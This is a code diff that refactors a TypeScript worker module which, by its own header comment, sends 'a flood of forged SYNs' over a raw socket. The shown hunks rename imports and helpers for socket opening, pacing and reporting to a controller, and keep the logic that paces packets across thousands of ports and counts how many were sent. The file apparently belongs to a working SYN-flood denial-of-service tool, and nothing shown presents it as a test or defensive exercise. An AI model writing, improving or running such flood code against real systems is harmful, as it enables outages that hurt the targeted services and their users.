@@ -1,10 +1,10 @@
 // A flood of forged SYNs. `opened` is what was sent: the victim alone knows what it made of it.
 
-import { AF_INET, SyscallError, sendTo, socket } from "../src/linux/index.ts";
+import { AF_INET, openSocket, SyscallError, sendTo } from "../src/linux/index.ts";
 import type { Counts, HoldTask } from "./messages.ts";
-import { Ramp } from "./ramp.ts";
+import { Pacer } from "./pace.ts";
 import { encodeSyn } from "./syn.ts";
-import { hearOwner, tellOwner } from "./worker.ts";
+import { onTask, tellKeeper } from "./worker.ts";
 
 const SOCK_RAW = 3;
 const IPPROTO_RAW = 255;
@@ -15,23 +15,23 @@ const PORTS = 60_000;
 
 let flood: Flood | null = null;
 
-hearOwner((message) => {
+onTask((message) => {
   if (message.kind === "hold") flood = new Flood(message);
-  if (message.kind === "count" && flood !== null) tellOwner({ kind: "counted", ...flood.counts() });
+  if (message.kind === "count" && flood !== null) tellKeeper({ kind: "counted", ...flood.counts() });
 });
 
 class Flood {
   readonly #task: HoldTask;
-  readonly #ramp: Ramp;
-  readonly #fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
+  readonly #pace: Pacer;
+  readonly #fd = openSocket(AF_INET, SOCK_RAW, IPPROTO_RAW);
   #sent = 0;
   #failed = 0;
   #settled = false;
 
   constructor(task: HoldTask) {
     this.#task = task;
-    this.#ramp = new Ramp({ count: task.count, perSecond: task.rampPerSecond || PER_SECOND_DEFAULT });
-    this.#ramp.onTick(() => this.#sendDue());
+    this.#pace = new Pacer({ count: task.count, perSecond: task.rampPerSecond || PER_SECOND_DEFAULT });
+    this.#pace.onTick(() => this.#sendDue());
   }
 
   counts(): Counts {
@@ -39,10 +39,10 @@ class Flood {
   }
 
   #sendDue(): void {
-    while (this.#ramp.takeOne()) this.#send(this.#task.first + this.#ramp.taken - 1);
-    if (!this.#ramp.done || this.#settled) return;
+    while (this.#pace.takeOne()) this.#send(this.#task.first + this.#pace.taken - 1);
+    if (!this.#pace.done || this.#settled) return;
     this.#settled = true;
-    tellOwner({ kind: "settled", ...this.counts() });
+    tellKeeper({ kind: "settled", ...this.counts() });
   }
 
   #send(i: number): void {
